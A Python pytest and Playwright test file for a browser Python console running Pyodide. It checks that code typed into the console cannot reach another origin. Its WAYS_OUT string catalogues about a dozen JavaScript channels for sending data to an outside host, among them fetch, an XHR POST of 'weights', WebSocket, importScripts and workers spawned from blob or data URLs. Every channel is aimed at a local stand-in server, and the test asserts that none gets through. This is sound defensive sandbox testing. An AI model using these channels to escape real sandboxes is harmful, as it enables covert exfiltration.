"""Python in the page may be anybody's: whatever it does, it reaches no other origin."""

import http.server
import threading
from collections.abc import Iterator

import pytest
from driving import press, type_at_the_console, wait_for
from playwright.sync_api import Browser, expect

# Each is a way out for JavaScript in a worker: typed at the console, Python has all of JavaScript.
WAYS_OUT = """
  fetch: () => fetch(stranger + "fetch", { mode: "no-cors" }),
  XMLHttpRequest: () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    Object.assign(request, { onload: done, onerror: failed });
    request.open("POST", stranger + "xhr");
    request.send("weights");
  }),
  WebSocket: () => new Promise((done, failed) => {
    const socket = new WebSocket(stranger.replace("http", "ws") + "socket");
    Object.assign(socket, { onopen: done, onerror: failed });
  }),
  EventSource: () => new Promise((done, failed) => {
    const source = new EventSource(stranger + "events");
    Object.assign(source, { onopen: done, onerror: failed });
  }),
  importScripts: async () => importScripts(stranger + "script.js"),
  "import()": () => import(stranger + "module.js"),
  FontFace: () => new FontFace("f", `url(${stranger}font.woff)`).load(),
  "a cache's add": async () => (await caches.open("c")).add(new Request(stranger + "added")),
  "a Worker from data:": () => child("data:text/javascript," + encodeURIComponent(calls_home)),
  "a Worker from a blob": () => child(URL.createObjectURL(new Blob([calls_home]))),
  "a Worker from our own origin": () => child(home + "build/worker.js"),
  eval: async () => (0, eval)("1"),
"""

SCRIPT = """
const [stranger, home] = %s;
const calls_home = `fetch("${stranger}child", { mode: "no-cors" })
  .then(() => postMessage("done"), () => { throw Error("no") })`;
const child = (url) => new Promise((done, failed) => {
  const worker = new Worker(url);
  worker.onmessage = done;
  worker.onerror = failed;
  worker.addEventListener("error", (event) => event.preventDefault());
});
(async () => {
  const reached = [];
  for (const [name, go] of Object.entries({ %s })) {
    const late = new Promise((_, failed) => setTimeout(failed, 3000));
    try { await Promise.race([go(), late]); reached.push(name); } catch { }
  }
  postMessage(reached.length ? "reached: " + reached.join(", ") : "reached nothing");
})();
"""

# Typed at the console. Compiled by a worker from a blob, as Python may start, for want of an eval.
TYPED = """import js
from pyodide.ffi import create_proxy, to_js
blob = js.Blob.new(to_js([{script!r}]))
sub = js.Worker.new(js.URL.createObjectURL(blob))
sub.onmessage = create_proxy(lambda event: print("it", event.data))"""


class Stranger(http.server.ThreadingHTTPServer):
    """A server of another origin that notes what arrives."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
        self.arrived: list[str] = []

    def finish_request(self, request, client_address) -> None:
        self.arrived.append(request.recv(4096).decode("latin-1"))


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("place", ["", "embed.html#panel=lesson&lesson=7"], ids=["page", "frame"])
def test_code_in_the_worker_reaches_no_other_origin(
    chromium: Browser, site_url: str, stranger: Stranger, place: str
) -> None:
    context = chromium.new_context(service_workers="block")  # its requests may fail, as they do
    page = context.new_page()
    page.goto(site_url + place)
    if place:
        press(page, "Load")
    wait_for(page, "ready")
    away = f"http://127.0.0.1:{stranger.server_port}/"
    console = page.get_by_role("log", name="Console")
    type_at_the_console(page, f"import js; js.fetch('{away}from-python')")
    expect(console).to_contain_text("js.fetch")
    type_at_the_console(page, TYPED.format(script=SCRIPT % ([away, site_url], WAYS_OUT)))
    expect(console).to_contain_text("it reached")
    expect(console).to_contain_text("it reached nothing")
    assert stranger.arrived == []
    context.close()
